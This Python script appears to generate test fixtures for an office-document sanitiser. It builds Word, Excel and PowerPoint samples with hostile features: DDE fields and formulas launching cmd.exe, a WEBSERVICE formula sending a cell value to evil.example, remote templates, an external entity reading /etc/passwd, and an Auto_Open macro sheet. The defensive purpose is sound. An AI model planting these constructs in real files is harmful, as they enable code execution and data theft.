#!/usr/bin/env python3
# 事例の見本を作る — writes in.EXT of the office and archive cases in tests/cases/sanitise/. The results are committed; run again only to change a sample.
# Every sample is made here from nothing: no bytes of anybody's document.
import io, struct, sys, zipfile, zlib
from pathlib import Path
from picture_samples import SCAN, SIZE, bmp, frame as gif_frame, gif, tiff

CASES = Path(__file__).resolve().parent.parent / "cases/sanitise"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
T = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
X = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
WML, SML, OOX = (f"application/vnd.openxmlformats-officedocument.{k}" for k in ("wordprocessingml.", "spreadsheetml.", ""))


def png(shade=120):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress((b"\0" + bytes([shade] * 4)) * 4)) + chunk(b"IEND", b"")


def pack(members, **how):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, content in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = how.get("method", zipfile.ZIP_DEFLATED)
            z.writestr(info, content)
    return out.getvalue()


def relations(rows):
    body = "".join(f'<Relationship Id="{i}" Type="{t if t.startswith("http") else T + t}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if external else ""}/>'
                   for i, t, target, external in rows)
    return HEAD + f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'


def package(main, main_type, main_xml, parts=(), rels=(), root=(), defaults=()):
    """parts: (name, content type or None, content, [relationships])"""
    types = "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in (("rels", "application/vnd.openxmlformats-package.relationships+xml"), ("xml", "application/xml")) + tuple(defaults))
    types += f'<Override PartName="/{main}" ContentType="{main_type}"/>' + "".join(f'<Override PartName="/{p[0]}" ContentType="{p[1]}"/>' for p in parts if p[1])
    def rels_name(n):
        folder, _, file = n.rpartition("/")
        return f"{folder}/_rels/{file}.rels"
    members = [("[Content_Types].xml", HEAD + f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{types}</Types>'),
               ("_rels/.rels", relations([("rId1", "officeDocument", main, False)] + list(root))), (main, HEAD + main_xml)]
    if rels:
        members.append((rels_name(main), relations(rels)))
    for p in parts:
        members.append((p[0], p[2]))
        if len(p) > 3:
            members.append((rels_name(p[0]), relations(p[3])))
    return pack(members)


def docx(body, parts=(), rels=(), main_type=WML + "document.main+xml", **more):
    return package("word/document.xml", main_type, f"<w:document {W}><w:body>{body}<w:sectPr/></w:body></w:document>", parts, rels, **more)


def xlsx(cells, parts=(), rels=(), main_type=SML + "sheet.main+xml", sheet_rels=(), sheets="", names="", behind="", **more):
    sheet = f'<worksheet {X}><sheetData><row r="1">{cells}</row></sheetData>{behind}</worksheet>'
    book = f'<workbook {X}><sheets><sheet name="集計" sheetId="1" r:id="rId1"/>{sheets}</sheets>{names}</workbook>'
    first = ("xl/worksheets/sheet1.xml", SML + "worksheet+xml", HEAD + sheet) + ((list(sheet_rels),) if sheet_rels else ())
    return package("xl/workbook.xml", main_type, book, (first,) + tuple(parts), [("rId1", "worksheet", "worksheets/sheet1.xml", False)] + list(rels), **more)


def pivot():
    """A table of two rows, one of them not in the sheet any more: it is in the cache only."""
    field = '<sharedItems count="2"><s v="住民課"/><s v="人事課"/></sharedItems>'
    cache = f'<pivotCacheDefinition {X} r:id="rId1" recordCount="2"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="集計"/></cacheSource><cacheFields count="2"><cacheField name="課" numFmtId="0">{field}</cacheField><cacheField name="数" numFmtId="0"><sharedItems containsSemiMixedTypes="0" containsString="0" containsNumber="1" containsInteger="1" minValue="1" maxValue="9"/></cacheField></cacheFields></pivotCacheDefinition>'
    records = f'<pivotCacheRecords {X} count="2"><r><x v="0"/><n v="1"/></r><r><x v="1"/><n v="9"/></r></pivotCacheRecords>'
    table = f'<pivotTableDefinition {X} name="表1" cacheId="1" dataOnRows="0" applyNumberFormats="0" applyBorderFormats="0" applyFontFormats="0" applyPatternFormats="0" applyAlignmentFormats="0" applyWidthHeightFormats="1" dataCaption="値"><location ref="D1:E3" firstHeaderRow="1" firstDataRow="1" firstDataCol="1"/><pivotFields count="2"><pivotField axis="axisRow" showAll="0"><items count="3"><item x="0"/><item x="1"/><item t="default"/></items></pivotField><pivotField dataField="1" showAll="0"/></pivotFields><rowFields count="1"><field x="0"/></rowFields><dataFields count="1"><dataField name="合計" fld="1" baseField="0" baseItem="0"/></dataFields></pivotTableDefinition>'
    return xlsx('<c r="A1" t="str"><v>住民課</v></c><c r="B1"><v>1</v></c>',
                [("xl/pivotCache/pivotCacheDefinition1.xml", SML + "pivotCacheDefinition+xml", HEAD + cache, [("rId1", "pivotCacheRecords", "pivotCacheRecords1.xml", False)]),
                 ("xl/pivotCache/pivotCacheRecords1.xml", SML + "pivotCacheRecords+xml", HEAD + records),
                 ("xl/pivotTables/pivotTable1.xml", SML + "pivotTable+xml", HEAD + table, [("rId1", "pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml", False)])],
                [("rId2", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml", False)], sheet_rels=[("rId1", "pivotTable", "../pivotTables/pivotTable1.xml", False)],
                names='<pivotCaches><pivotCache cacheId="1" r:id="rId2"/></pivotCaches>')


def p(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def run(inside):
    return f"<w:r>{inside}</w:r>"


def mark(kind):
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def instruction(text):
    return run(f'<w:instrText xml:space="preserve">{text}</w:instrText>')


def picture(id_attribute):
    return ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="図 1"/>'
            '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="図 1"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip {id_attribute}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')


SETTINGS = ("word/settings.xml", WML + "settings+xml")
SET = ("rId1", "settings", "settings.xml", False)


def settings(inside, rels=()):
    return dict(parts=[SETTINGS + (HEAD + f"<w:settings {W}>{inside}</w:settings>",) + ((list(rels),) if rels else ())], rels=[SET])


def diagram(drawing):
    """A diagram whose data say under which id of the document the picture lies that was drawn of it last."""
    dgm, a, dsp = "http://schemas.openxmlformats.org/drawingml/2006/diagram", "http://schemas.openxmlformats.org/drawingml/2006/main", "http://schemas.microsoft.com/office/drawing/2008/diagram"
    inside = f'<a:graphic xmlns:a="{a}"><a:graphicData uri="{dgm}"><dgm:relIds xmlns:dgm="{dgm}" r:dm="rId1" r:lo="rId2" r:qs="rId3" r:cs="rId4"/></a:graphicData></a:graphic>'
    shown = f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="図 1"/>{inside}</wp:inline></w:drawing></w:r></w:p>'
    data = f'<dgm:dataModel xmlns:dgm="{dgm}" xmlns:a="{a}"><dgm:ptLst/><dgm:cxnLst/><dgm:extLst><a:ext uri="{dsp}"><dsp:dataModelExt xmlns:dsp="{dsp}" relId="{drawing}" minVer="{dgm}"/></a:ext></dgm:extLst></dgm:dataModel>'
    drawn = f'<dsp:drawing xmlns:dsp="{dsp}" xmlns:a="{a}"><dsp:spTree><dsp:nvGrpSpPr><dsp:cNvPr id="0" name=""/><dsp:cNvGrpSpPr/></dsp:nvGrpSpPr><dsp:grpSpPr/></dsp:spTree></dsp:drawing>'
    plain = lambda root, more="": f'<dgm:{root} xmlns:dgm="{dgm}" xmlns:a="{a}"{more}/>'
    kind = "application/vnd.openxmlformats-officedocument.drawingml.diagram"
    parts = [("word/diagrams/data1.xml", kind + "Data+xml", HEAD + data), ("word/diagrams/layout1.xml", kind + "Layout+xml", HEAD + plain("layoutDef")), ("word/diagrams/quickStyle1.xml", kind + "Style+xml", HEAD + plain("styleDef")),
             ("word/diagrams/colors1.xml", kind + "Colors+xml", HEAD + plain("colorsDef")), ("word/diagrams/drawing1.xml", "application/vnd.ms-office.drawingml.diagramDrawing+xml", HEAD + drawn)]
    rels = [(f"rId{n}", "diagram" + word, f"diagrams/{file}1.xml", False) for n, (word, file) in enumerate((("Data", "data"), ("Layout", "layout"), ("QuickStyle", "quickStyle"), ("Colors", "colors")), 1)]
    return docx(p("手続の流れ") + shown, parts, rels + [("rId5", "http://schemas.microsoft.com/office/2007/relationships/diagramDrawing", "diagrams/drawing1.xml", False), ("rId6", "hyperlink", "https://www.example.jp/", True)])


def documents():
    text = p("住民票の写しの交付申請書")
    yield "a_document_stays", "docx", docx(text + '<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>')
    yield "a_field_that_counts_stays", "docx", docx("<w:p>" + mark("begin") + instruction(" PA") + instruction("GE ") + mark("separate") + run("<w:t>1</w:t>") + mark("end") + "</w:p>")
    yield "a_link_to_a_web_page_stays", "docx", docx('<w:p><w:hyperlink r:id="rId1"><w:r><w:t>市の手引</w:t></w:r></w:hyperlink></w:p>', rels=[("rId1", "hyperlink", "https://www.example.jp/", True)])
    yield "a_png_in_a_document_is_rebuilt", "docx", docx(picture('r:embed="rId1"'), [("word/media/image1.png", None, png())], [("rId1", "image", "media/image1.png", False)], defaults=[("png", "image/png")])
    yield "a_dde_field_split_over_runs_goes", "docx", docx("<w:p>" + mark("begin") + instruction("D") + instruction("DEA") + instruction('UTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') + mark("separate") + run("<w:t>見える文字</w:t>") + mark("end") + "</w:p>")
    yield "a_field_made_by_a_field_goes", "docx", docx("<w:p>" + mark("begin") + instruction("DD") + mark("begin") + instruction("QUOTE 69") + mark("end") + instruction(" x") + mark("end") + "</w:p>")
    yield "an_attached_template_goes", "docx", docx(text, **settings('<w:attachedTemplate r:id="rId1"/>', [("rId1", "attachedTemplate", "https://evil.example/t.dotm", True)]))
    yield "a_mail_merge_source_goes", "docx", docx(text, **settings('<w:mailMerge><w:dataSource r:id="rId1"/></w:mailMerge>', [("rId1", "mailMergeSource", "file:///\\\\server\\share\\a.mdb", True)]))
    yield "a_macro_goes_and_docm_becomes_docx", "docm", docx(text, [("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"\xd0\xcf\x11\xe0macro")], [("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)], main_type="application/vnd.ms-word.document.macroEnabled.main+xml")
    yield "a_template_becomes_a_document", "dotx", docx(text, main_type=WML + "template.main+xml")
    yield "a_picture_from_outside_goes", "docx", docx(text + picture('r:link="rId1"'), rels=[("rId1", "image", "https://evil.example/track.png", True)])
    yield "an_included_file_goes", "docx", docx(text + '<w:altChunk r:id="rId1"/>', [("word/a.html", "text/html", "<script>x</script>")], [("rId1", "aFChunk", "a.html", False)])
    yield "a_sub_document_goes", "docx", docx(text + '<w:p><w:subDoc r:id="rId1"/></w:p>', rels=[("rId1", "subDocument", "file:///c:/a.docx", True)])
    yield "an_activex_control_goes", "docx", docx(text + '<w:p><w:r><w:object><w:control r:id="rId1" w:name="c"/></w:object></w:r></w:p>', [("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>")], [("rId1", "control", "activeX/activeX1.xml", False)])
    yield "an_ole_object_goes_its_picture_stays", "docx", docx('<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s" style="width:9pt;height:9pt"><v:imagedata r:id="rId2"/></v:shape><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" ShapeID="s" r:id="rId1"/></w:object></w:r></w:p>',
           [("word/embeddings/oleObject1.bin", None, b"\xd0\xcf\x11\xe0object"), ("word/media/image1.png", None, png())], [("rId1", "oleObject", "embeddings/oleObject1.bin", False), ("rId2", "image", "media/image1.png", False)], defaults=[("bin", OOX + "oleObject"), ("png", "image/png")])
    yield "a_document_in_a_document_is_rebuilt", "docx", docx('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Word.Document.12" ShapeID="s" r:id="rId1"/></w:object></w:r></w:p>',
           [("word/embeddings/a.docx", None, docx(text))], [("rId1", "package", "embeddings/a.docx", False)], defaults=[("docx", WML + "document")])
    yield "a_link_to_a_file_share_goes", "docx", docx('<w:p><w:hyperlink r:id="rId1"><w:r><w:t>共有</w:t></w:r></w:hyperlink></w:p>', rels=[("rId1", "hyperlink", "file://server/share/a.exe", True)])
    yield "an_embedded_font_goes", "docx", docx(text, [("word/fontTable.xml", WML + "fontTable+xml", HEAD + f'<w:fonts {W}><w:font w:name="外字"><w:embedRegular r:id="rId1" w:fontKey="{{0}}"/></w:font></w:fonts>', [("rId1", "font", "fonts/f.odttf", False)]), ("word/fonts/f.odttf", None, b"font")], [("rId1", "fontTable", "fontTable.xml", False)], defaults=[("odttf", OOX + "obfuscatedFont")])
    yield "bound_data_goes_its_text_stays", "docx", docx('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{0}"/></w:sdtPr><w:sdtContent>' + text + "</w:sdtContent></w:sdt>", [("customXml/item1.xml", None, "<a/>")], [("rId1", "customXml", "../customXml/item1.xml", False)])
    yield "a_metafile_becomes_a_square", "docx", docx(picture('r:embed="rId1"'), [("word/media/image1.emf", None, b"\1\0\0\0emf")], [("rId1", "image", "media/image1.emf", False)], defaults=[("emf", "image/x-emf")])
    yield "a_gif_in_a_document_becomes_a_png", "docx", docx(picture('r:embed="rId1"'), [("word/media/image1.gif", None, gif(gif_frame([0, 1, 2, 3] * 4, 4, 4)))], [("rId1", "image", "media/image1.gif", False)], defaults=[("gif", "image/gif")])
    yield "a_bitmap_in_a_document_becomes_a_png", "docx", docx(picture('r:embed="rId1"'), [("word/media/image1.bmp", None, bmp(1, 1, 24, b"\1\2\3\0"))], [("rId1", "image", "media/image1.bmp", False)], defaults=[("bmp", "image/bmp")])
    yield "a_scan_in_a_document_becomes_a_png", "docx", docx(picture('r:embed="rId1"'), [("word/media/image1.tiff", None, tiff((SIZE, SCAN)))], [("rId1", "image", "media/image1.tiff", False)], defaults=[("tiff", "image/tiff")])
    yield "a_scan_of_pages_in_a_document_becomes_a_square", "docx", docx(picture('r:embed="rId1"'), [("word/media/image1.tiff", None, tiff((SIZE, SCAN), (SIZE, SCAN)))], [("rId1", "image", "media/image1.tiff", False)], defaults=[("tiff", "image/tiff")])
    vectors = '><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId2"/></a:ext></a:extLst></a:blip>'
    yield "a_drawing_of_vectors_goes_its_picture_stays", "docx", docx(picture('r:embed="rId1"').replace('r:embed="rId1"/>', 'r:embed="rId1"' + vectors), [("word/media/image1.png", None, png()), ("word/media/image2.svg", None, '<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>')],
           [("rId1", "image", "media/image1.png", False), ("rId2", "image", "media/image2.svg", False)], defaults=[("png", "image/png"), ("svg", "image/svg+xml")])
    yield "a_diagram_keeps_how_it_was_drawn", "docx", diagram("rId5")
    yield "a_diagram_whose_drawing_is_something_else_loses_it", "docx", diagram("rId6")
    yield "a_canvas_leaves_its_fallback", "docx", docx('<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice xmlns:wpc="http://schemas.microsoft.com/office/word/2010/wordprocessingCanvas" Requires="wpc"><w:drawing>'
           '<wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="図 1"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
           'uri="http://schemas.microsoft.com/office/word/2010/wordprocessingCanvas"><wpc:wpc><wpc:bg/><wpc:whole/></wpc:wpc></a:graphicData></a:graphic></wp:inline></w:drawing></mc:Choice><mc:Fallback><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" id="r" '
           'style="width:9pt;height:9pt"/></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>')
    yield "a_damaged_picture_becomes_a_square", "docx", docx(picture('r:embed="rId1"'), [("word/media/image1.png", None, png()[:40])], [("rId1", "image", "media/image1.png", False)], defaults=[("png", "image/png")])
    yield "a_signature_becomes_void", "docx", docx(text, [("_xmlsignatures/origin.sigs", None, b"")], root=[("rId9", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs", False)], defaults=[("sigs", "application/vnd.openxmlformats-package.digital-signature-origin")])
    yield "a_document_variable_goes", "docx", docx(text, **settings('<w:docVars><w:docVar w:name="a" w:val="b"/></w:docVars>'))
    yield "a_form_field_loses_its_macro", "docx", docx('<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="a"/><w:entryMacro w:val="run"/></w:ffData></w:fldChar></w:r>' + instruction("FORMTEXT") + mark("separate") + run("<w:t>名</w:t>") + mark("end") + "</w:p>")
    yield "a_hover_action_goes", "docx", docx(picture('r:embed="rId1"').replace('name="図 1"/><a:graphic', 'name="図 1"><a:hlinkHover xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:id="rId2"/></wp:docPr><a:graphic'), [("word/media/image1.png", None, png())], [("rId1", "image", "media/image1.png", False), ("rId2", "hyperlink", "https://www.example.jp/", True)], defaults=[("png", "image/png")])
    yield "a_shape_loses_its_address", "docx", docx('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s" href="file:///c:/a.exe" style="width:9pt;background:url(http://evil.example)"><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>')
    yield "unknown_markup_goes", "docx", docx(text + '<q:act xmlns:q="urn:unknown"><q:now/></q:act>')
    yield "entities_are_refused", "docx", docx(text, [("word/styles.xml", WML + "styles+xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')], [("rId1", "styles", "styles.xml", False)])
    yield "a_program_before_the_document_is_refused", "docx", b"MZ\x90\0program" + docx(text)
    yield "a_page_behind_the_document_is_refused", "docx", docx(text) + b"<script>x</script>"
    yield "two_parts_of_one_name_are_refused", "docx", duplicate(docx(text), b"word/document.xml", b"Word/Document.xml")
    yield "a_part_that_lies_about_its_checksum_is_refused", "docx", wrong_checksum(docx(text))


def sheets():
    cell = '<c r="A1"><v>12345</v></c><c r="B1" t="inlineStr"><is><t>世帯数</t></is></c>'
    yield "a_workbook_stays", "xlsx", xlsx(cell + '<c r="C1"><f>SUM(A1,1)</f><v>12346</v></c>', names='<definedNames><definedName name="範囲">集計!$A$1</definedName></definedNames>')
    vml = '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" type="#_x0000_t202" style="position:absolute"><v:textbox><div>x</div></v:textbox><x:ClientData ObjectType="%s"><x:Row>0</x:Row><x:Column>0</x:Column>%s</x:ClientData></v:shape></xml>'
    comment = ("xl/comments1.xml", SML + "comments+xml", HEAD + f'<comments {X}><authors><author>係</author></authors><commentList><comment ref="A1" authorId="0"><text><t>確認済</t></text></comment></commentList></comments>')
    yield "a_comment_stays_with_its_box", "xlsx", xlsx(cell, [comment, ("xl/drawings/v.vml", None, vml % ("Note", ""))], sheet_rels=[("rId1", "comments", "../comments1.xml", False), ("rId2", "vmlDrawing", "../drawings/v.vml", False)], behind='<legacyDrawing r:id="rId2"/>', defaults=[("vml", OOX + "vmlDrawing")])
    yield "a_rule_of_another_sheet_stays", "xlsx", xlsx(cell, behind='<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:dataValidations count="1" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:dataValidation type="list"><x14:formula1><xm:f>集計!$A$1</xm:f></x14:formula1><xm:sqref>B1</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>')
    yield "a_button_goes", "xlsx", xlsx(cell, [("xl/drawings/v.vml", None, vml % ("Button", "<x:FmlaMacro>go</x:FmlaMacro>"))], sheet_rels=[("rId2", "vmlDrawing", "../drawings/v.vml", False)], behind='<legacyDrawing r:id="rId2"/>', defaults=[("vml", OOX + "vmlDrawing")])
    yield "a_formula_that_fetches_becomes_its_value", "xlsx", xlsx('<c r="A1" t="str"><f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;B1)</f><v>前の値</v></c>')
    yield "a_dde_formula_becomes_its_value", "xlsx", xlsx("<c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>0</v></c>")
    yield "a_link_made_by_a_formula_goes_unless_it_is_plain", "xlsx", xlsx('<c r="A1" t="str"><f>HYPERLINK("https://www.example.jp/","市")</f><v>市</v></c><c r="B1" t="str"><f>HYPERLINK("file:///c:/a.exe","x")</f><v>x</v></c>')
    yield "a_macro_sheet_goes", "xlsm", xlsx(cell + '<c r="C1"><f>Macro1!A1</f><v>1</v></c>', [("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>')], [("rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", False)], main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml", sheets='<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/>', names='<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>')
    yield "a_link_to_another_book_becomes_its_value", "xlsx", package_with_link(cell)
    yield "a_connection_goes", "xlsx", xlsx(cell, [("xl/connections.xml", SML + "connections+xml", HEAD + f"<connections {X}/>")], [("rId2", "connections", "connections.xml", False)])
    yield "printer_settings_go", "xlsx", xlsx(cell, [("xl/printerSettings/p.bin", None, b"printer")], sheet_rels=[("rId1", "printerSettings", "../printerSettings/p.bin", False)], behind='<pageSetup r:id="rId1"/>', defaults=[("bin", SML + "printerSettings")])
    yield "a_hidden_sheet_is_told", "xlsx", xlsx(cell, [("xl/worksheets/sheet2.xml", SML + "worksheet+xml", HEAD + f"<worksheet {X}><sheetData/></worksheet>")], [("rId2", "worksheet", "worksheets/sheet2.xml", False)], sheets='<sheet name="裏" sheetId="2" state="veryHidden" r:id="rId2"/>')
    yield "data_behind_a_pivot_table_is_told", "xlsx", pivot()
    yield "an_object_in_a_sheet_goes", "xlsx", xlsx(cell, [("xl/embeddings/o.bin", None, b"\xd0\xcf\x11\xe0")], sheet_rels=[("rId1", "oleObject", "../embeddings/o.bin", False)], behind='<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId1"/></oleObjects>', defaults=[("bin", OOX + "oleObject")])
    yield "a_link_with_a_bad_scheme_goes", "xlsx", xlsx(cell, sheet_rels=[("rId1", "hyperlink", "ms-excel:ofe|u|http://evil.example/a.xlsm", True)], behind='<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>')


P = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
PML = OOX + "presentationml."
TREE_HEAD = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
BLANK_THEME = ('<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="市"><a:themeElements><a:clrScheme name="市"><a:dk1><a:srgbClr val="000000"/></a:dk1><a:lt1><a:srgbClr val="FFFFFF"/></a:lt1><a:dk2><a:srgbClr val="333333"/></a:dk2><a:lt2><a:srgbClr val="EEEEEE"/></a:lt2>'
               + "".join(f'<a:accent{i}><a:srgbClr val="0017C1"/></a:accent{i}>' for i in range(1, 7)) + '<a:hlink><a:srgbClr val="0017C1"/></a:hlink><a:folHlink><a:srgbClr val="0017C1"/></a:folHlink></a:clrScheme>'
               '<a:fontScheme name="市"><a:majorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme>'
               '<a:fmtScheme name="市"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst><a:lnStyleLst><a:ln w="9525"/></a:lnStyleLst><a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst><a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>')


def words(text, more=""):
    return f'<p:sp><p:nvSpPr><p:cNvPr id="2" name="題名">{more}</p:cNvPr><p:cNvSpPr/><p:nvPr><p:ph type="title"/></p:nvPr></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP"/><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>'


def shape(more, media=""):
    """A picture of rId2, with what makes it more than a picture."""
    return f'<p:pic><p:nvPicPr><p:cNvPr id="4" name="図">{more}</p:cNvPr><p:cNvPicPr/><p:nvPr>{media}</p:nvPr></p:nvPicPr><p:blipFill><a:blip r:embed="rId2"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'


def frame(uri, inside):
    return f'<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="7" name="物"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm><a:graphic><a:graphicData uri="{uri}">{inside}</a:graphicData></a:graphic></p:graphicFrame>'


PICTURE = (("ppt/media/image1.png", None, png()), ("rId2", "image", "../media/image1.png", False))
OLE = "http://schemas.openxmlformats.org/presentationml/2006/ole"


def pptx(tree, parts=(), slide_rels=(), rels=(), behind="", main_type=PML + "presentation.main+xml", settings="", slides="", attributes="", defaults=(("png", "image/png"),), **more):
    slide = f'<p:sld {P}{attributes}><p:cSld><p:spTree>{TREE_HEAD}{tree}</p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr>{behind}</p:sld>'
    colours = 'bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" ' + " ".join(f'accent{i}="accent{i}"' for i in range(1, 7)) + ' hlink="hlink" folHlink="folHlink"'
    page = f"<p:cSld><p:spTree>{TREE_HEAD}</p:spTree></p:cSld>"
    house = [("ppt/slides/slide1.xml", PML + "slide+xml", HEAD + slide, [("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml", False)] + list(slide_rels)),
             ("ppt/slideLayouts/slideLayout1.xml", PML + "slideLayout+xml", HEAD + f'<p:sldLayout {P} type="title">{page}<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>', [("rId1", "slideMaster", "../slideMasters/slideMaster1.xml", False)]),
             ("ppt/slideMasters/slideMaster1.xml", PML + "slideMaster+xml", HEAD + f'<p:sldMaster {P}>{page}<p:clrMap {colours}/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>',
              [("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml", False), ("rId2", "theme", "../theme/theme1.xml", False)]),
             ("ppt/theme/theme1.xml", OOX + "theme+xml", HEAD + BLANK_THEME)]
    main = f'<p:presentation {P}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rId2"/>{slides}</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/>{settings}</p:presentation>'
    return package("ppt/presentation.xml", main_type, main, house + list(parts), [("rId1", "slideMaster", "slideMasters/slideMaster1.xml", False), ("rId2", "slide", "slides/slide1.xml", False)] + list(rels), defaults=defaults, **more)


def with_picture(more="", media="", parts=(), rels=(), **rest):
    return pptx(words("窓口の案内") + shape(more, media), [PICTURE[0]] + list(parts), [PICTURE[1]] + list(rels), **rest)


def book(value):
    return xlsx(f'<c r="A1"><v>{value}</v></c>')


